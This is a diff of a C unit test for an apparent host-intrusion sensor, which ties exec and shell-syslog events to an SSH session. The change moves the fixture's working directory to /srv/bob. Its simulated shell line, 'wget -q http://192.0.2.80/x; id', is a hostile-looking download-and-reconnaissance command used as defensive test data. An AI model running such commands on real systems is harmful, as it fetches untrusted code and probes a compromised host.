@@ -360,7 +360,7 @@ static void runs(struct say *s, uint64_t visit, uint32_t pid)
 					    .tty = -1,
 					    .comm = "wget"},
 				      .argc = 3};
-	const struct sensor_text t[] = {text_of("/usr/bin/wget", 13), text_of("/home/bob", 9),
+	const struct sensor_text t[] = {text_of("/usr/bin/wget", 13), text_of("/srv/bob", 8),
 					text_of(argv, sizeof(argv))};
 	say_record(s, SENSOR_EXEC, &e, sizeof(e), 3, t);
 }
@@ -386,11 +386,11 @@ static void a_command_comes_out_with_its_visit(void **state)
 	assert_int_equal(c->visit.server_port, 22);
 	assert_int_equal(c->visit.peer.ver, 4);
 	assert_string_equal(c->exe, "/usr/bin/wget");
-	assert_string_equal(c->cwd, "/home/bob");
+	assert_string_equal(c->cwd, "/srv/bob");
 	/* The shell tells what was typed, by syslog. */
 	logs(g, 0,
 	     "<182>Nov 28 10:00:00 web1 sh[300]: pid=300 ppid=299 uid=1000 user=bob tty=- seq=1 "
-	     "cwd=/home/bob line=wget -q http://192.0.2.80/x; id");
+	     "cwd=/srv/bob line=wget -q http://192.0.2.80/x; id");
 	do
 		await(g, EVENT_COMMAND, NULL);
 	while (strcmp(g->last.u.command.layer, "shell") != 0);
